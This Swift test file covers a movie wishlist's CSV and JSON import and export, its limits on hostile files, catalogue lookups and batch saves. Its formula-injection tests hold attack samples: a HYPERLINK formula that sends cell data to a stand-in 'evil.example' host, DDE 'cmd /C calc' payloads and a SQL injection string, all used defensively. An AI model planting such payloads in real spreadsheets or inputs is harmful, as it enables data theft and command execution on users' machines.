import XCTest
import GRDB
import NimbusDomain
import NimbusResources
@testable import NimbusData

/// Wishlist files: Letterboxd-style CSV and JSON out, and hostile files in.
final class WishlistTransferTests: XCTestCase {
    private func entry(_ title: String, _ year: Int?, directors: [String] = ["A, B"], genres: [String] = ["Drama"]) -> WishlistEntry {
        WishlistEntry(movie: MovieSummary(id: MovieID(source: .catalogue, value: title.count), title: title, year: year,
                                          genres: genres, directors: directors),
                      addedAt: Date(timeIntervalSince1970: 1_782_000_000))
    }

    func testCSVHasLetterboxdsColumnsAndQuotesWhatNeedsIt() throws {
        let csv = try WishlistTransfer.export([entry("Crouching Tiger, \"Hidden\" Dragon", 2000), entry("Heat", nil)], as: .csv)
        XCTAssertEqual(csv, """
            Title,Year,Directors,Genres,Added\r
            "Crouching Tiger, ""Hidden"" Dragon",2000,"A, B",Drama,2026-06-21\r
            Heat,,"A, B",Drama,2026-06-21\r

            """)
        let back = try WishlistTransfer.parse(Data(csv.utf8))
        XCTAssertEqual(back, [.init(title: "Crouching Tiger, \"Hidden\" Dragon", year: 2000), .init(title: "Heat", year: nil)])
    }

    func testJSONRoundTrip() throws {
        let json = try WishlistTransfer.export([entry("Oldboy", 2003)], as: .json)
        XCTAssertEqual(try WishlistTransfer.parse(Data(json.utf8)), [.init(title: "Oldboy", year: 2003)])
        XCTAssertEqual(try WishlistTransfer.parse(Data(#"{"films":[{"Title":"Heat","Year":"1995"}]}"#.utf8)),
                       [.init(title: "Heat", year: 1995)])
    }

    func testBOMCRLFQuotedLineBreaksAndControlCharacters() throws {
        let text = "\u{FEFF}Year,Title,Rating\r\n1995,\"Heat\r\nand more\",5\r\n\r\n2003,Old\u{07}boy\u{202E},\n1999,\"The \"\"Matrix\"\"\"\n"
        XCTAssertEqual(try WishlistTransfer.parse(Data(text.utf8)), [
            .init(title: "Heat and more", year: 1995), .init(title: "Old boy", year: 2003), .init(title: "The \"Matrix\"", year: 1999),
        ])
    }

    func testHostileFilesAreRefusedOrBounded() throws {
        XCTAssertThrowsError(try WishlistTransfer.parse(Data(repeating: 0x41, count: WishlistTransfer.maxBytes + 1))) {
            XCTAssertEqual($0 as? WishlistTransfer.Failure, .tooLarge(limit: WishlistTransfer.maxBytes))
        }
        XCTAssertThrowsError(try WishlistTransfer.parse(Data([0xFF, 0xFE, 0x00, 0x41]))) {
            XCTAssertEqual($0 as? WishlistTransfer.Failure, .notText)
        }
        XCTAssertThrowsError(try WishlistTransfer.parse(Data("Name Of Film,When\nHeat,1995\n".utf8))) {
            XCTAssertEqual($0 as? WishlistTransfer.Failure, .badFormat(.csvNoTitle))
        }
        let rows = "Title\n" + String(repeating: "x\n", count: WishlistTransfer.maxRows + 5)
        XCTAssertThrowsError(try WishlistTransfer.parse(Data(rows.utf8))) {
            XCTAssertEqual($0 as? WishlistTransfer.Failure, .tooManyRows(limit: WishlistTransfer.maxRows))
        }
        XCTAssertThrowsError(try WishlistTransfer.parse(Data("[1, 2".utf8)))
        // An unterminated quote runs to the end of the file; a huge field is cut; odd years are dropped.
        let odd = "Title,Year\n\"Heat,1995\n" + "Long,99999\n"
        XCTAssertEqual(try WishlistTransfer.parse(Data(odd.utf8)).count, 1)
        let long = "Title,Year\n" + String(repeating: "a", count: 100_000) + ",1995\n"
        XCTAssertEqual(try WishlistTransfer.parse(Data(long.utf8)).first?.title.count, WishlistTransfer.maxFieldLength)
        XCTAssertEqual(try WishlistTransfer.parse(Data("Title,Year\nHeat,-5\n,1995\n".utf8)), [.init(title: "Heat", year: nil)])
        XCTAssertEqual(try WishlistTransfer.parse(Data()), [])
    }

    func testTheCatalogueFindsFilmsByTitleAndYear() throws {
        let catalogue = try MovieCatalogue.bundled()
        let titles = try CatalogueTitles(catalogue)
        let heat = try XCTUnwrap(titles.find(title: "heat", year: 1995))
        XCTAssertEqual(try catalogue.films([heat]).first?.directors, ["Michael Mann"])
        XCTAssertEqual(try titles.find(title: "Heat", year: nil).flatMap { try catalogue.films([$0]).first?.year }, 1995,
                       "the most popular of its name")
        XCTAssertNil(titles.find(title: "Heat", year: 1901))
        XCTAssertNil(titles.find(title: "'; DROP TABLE movie; --", year: nil))
        XCTAssertNotNil(titles.find(title: "+1", year: 2013))
    }
}

/// The title index against the catalogue read on its own, with SQL: for every title (and every
/// title and year) of the catalogue, the film SQLite's `NOCASE` comparison finds, most popular first.
final class CatalogueTitlesTests: XCTestCase {
    func testEveryTitleAndYearFindsWhatTheCatalogueQueryFinds() throws {
        let catalogue = try MovieCatalogue.bundled()
        let titles = try CatalogueTitles(catalogue)
        let url = try XCTUnwrap(NimbusResources.url(forResource: "movies", withExtension: "sqlite"))
        var configuration = Configuration()
        configuration.readonly = true
        let database = try DatabaseQueue(path: url.path, configuration: configuration)
        // SQLite returns the bare columns of the row that holds the MIN() of each group.
        let byTitleAndYear = try database.read { db in
            try Row.fetchAll(db, sql: """
                SELECT title, year, id, MIN(popularity) FROM movie GROUP BY title COLLATE NOCASE, year
                """)
        }
        let byTitle = try database.read { db in
            try Row.fetchAll(db, sql: "SELECT title, id, MIN(popularity) FROM movie GROUP BY title COLLATE NOCASE")
        }
        /// `text` with its ASCII letters in capitals (what NOCASE folds, and nothing else).
        func shouted(_ text: String) -> String {
            String(decoding: text.utf8.map { (0x61...0x7A).contains($0) ? $0 - 0x20 : $0 }, as: UTF8.self)
        }
        var checked = 0, passed = 0
        for row in byTitleAndYear {
            let title: String = row[0], year: Int? = row[1], id: Int64 = row[2]
            for asked in [title, shouted(title)] {
                checked += 1
                if titles.find(title: asked, year: year) == id { passed += 1 }
            }
        }
        for row in byTitle {
            let title: String = row[0], id: Int64 = row[1]
            for asked in [title, shouted(title)] {
                checked += 1
                if titles.find(title: asked, year: nil) == id { passed += 1 }
            }
        }
        // And the query the importer used to run for each row, on a sample (it scans the table each time).
        for row in byTitleAndYear.enumerated().filter({ $0.offset % 397 == 0 }).map(\.element) {
            let title: String = row[0], year: Int? = row[1]
            for asked in [(title, year), (shouted(title), nil as Int?), (title + "x", year)] {
                let expected = try database.read { db in
                    try Int64.fetchOne(db, sql: """
                        SELECT id FROM movie WHERE title = ? COLLATE NOCASE AND (? IS NULL OR year = ?)
                        ORDER BY popularity LIMIT 1
                        """, arguments: [asked.0, asked.1, asked.1])
                }
                checked += 1
                if titles.find(title: asked.0, year: asked.1) == expected { passed += 1 }
            }
        }
        print("reference: \(passed) of \(checked) title lookups find the catalogue query's film")
        XCTAssertEqual(passed, checked)
    }
}

/// CSV formula injection (OWASP): a cell a spreadsheet would run is written as text, and read back as it was.
final class WishlistFormulaTests: XCTestCase {
    private func entry(_ title: String, directors: [String] = [], genres: [String] = []) -> WishlistEntry {
        WishlistEntry(movie: MovieSummary(id: MovieID(source: .tmdb, value: title.count), title: title, year: 2013,
                                          genres: genres, directors: directors),
                      addedAt: Date(timeIntervalSince1970: 1_782_000_000))
    }

    /// The CSV's cells, row by row (header first), as a spreadsheet would split them.
    private func cells(_ csv: String) throws -> [[String]] { try WishlistTransfer.csvRows(csv) }

    func testCellsThatWouldRunAsFormulasAreWrittenAsText() throws {
        let titles = [
            #"=HYPERLINK("http://evil.example/steal?d="&A2,"Click for trailer")"#,
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "+1+1",
            "+1",
            "\t=1+1",
            "\r=1+1",
            "=1+1",
        ]
        let csv = try WishlistTransfer.export(titles.map { entry($0, directors: ["=cmd"], genres: ["@x"]) }, as: .csv)
        for row in try cells(csv).dropFirst() {
            for cell in [row[0], row[2], row[3]] {
                XCTAssertFalse(["=", "+", "-", "@", "\t", "\r"].contains { cell.hasPrefix($0) }, "a live cell: \(cell)")
                XCTAssertTrue(cell.hasPrefix("'"), cell)
            }
        }
    }

    func testImportReadsNeutralisedCellsBackAsTheyWere() throws {
        let titles = ["=1+1", "+1", "-2+3", "@SUM(1)", "'71", "'Til There Was You", "''=x", "'=y", "Heat"]
        let csv = try WishlistTransfer.export(titles.map { entry($0) }, as: .csv)
        XCTAssertEqual(try WishlistTransfer.parse(Data(csv.utf8)).map(\.title), titles)
        let json = try WishlistTransfer.export(titles.map { entry($0) }, as: .json)
        XCTAssertEqual(try WishlistTransfer.parse(Data(json.utf8)).map(\.title), titles, "JSON is never neutralised")
    }

    func testTitlesThatStartWithAnApostropheAloneAreLeftAlone() throws {
        let csv = try WishlistTransfer.export([entry("'71"), entry("'Til There Was You")], as: .csv)
        XCTAssertEqual(try cells(csv).dropFirst().map { $0[0] }, ["'71", "'Til There Was You"])
    }
}

/// Adding a file's films in one transaction: what is saved already is counted, not added again, and
/// a write that fails adds nothing and says why.
final class WishlistBatchAddTests: XCTestCase {
    private func film(_ id: Int, _ title: String, _ year: Int?, source: MovieSource = .catalogue) -> MovieSummary {
        MovieSummary(id: MovieID(source: source, value: id), title: title, year: year, genres: ["Drama"], directors: ["X"])
    }

    func testOneTransactionCountsWhatItAddedAndWhatWasSavedAlready() throws {
        let database = try UserDatabase(inMemory: [WishlistStore.migration])
        let store = WishlistStore(database: database, now: { Date(timeIntervalSince1970: 1_782_000_000) })
        try store.add(film(1, "Heat", 1995))
        let counts = try store.add([film(2, "Oldboy", 2003), film(1, "Heat", 1995), film(9, "HEAT", 1995, source: .tmdb),
                                    film(2, "Oldboy", 2003), film(3, "Heat", 1972)])
        XCTAssertEqual(counts.added, 2)
        XCTAssertEqual(counts.already, 3, "the same film, the same title and year from TMDB, and a repeat in the file")
        XCTAssertEqual(try store.entries().map(\.movie.title), ["Heat", "Oldboy", "Heat"], "the last added first")
    }

    func testAWriteThatFailsAddsNothingAndSaysWhy() throws {
        let database = try UserDatabase(inMemory: [WishlistStore.migration])
        let store = WishlistStore(database: database)
        try store.add(film(1, "Heat", 1995))
        try database.writer.write { db in
            try db.execute(sql: "CREATE TRIGGER full BEFORE INSERT ON wishlist WHEN NEW.movie_id = 3 BEGIN SELECT RAISE(ABORT, 'database or disk is full'); END")
        }
        XCTAssertThrowsError(try store.add([film(2, "Oldboy", 2003), film(3, "Memento", 2000)])) {
            XCTAssertEqual($0 as? WishlistStore.NotSaved, WishlistStore.NotSaved(reason: "database or disk is full"))
        }
        XCTAssertEqual(try store.entries().map(\.movie.title), ["Heat"], "Oldboy, added before the failure, was rolled back")
    }
}
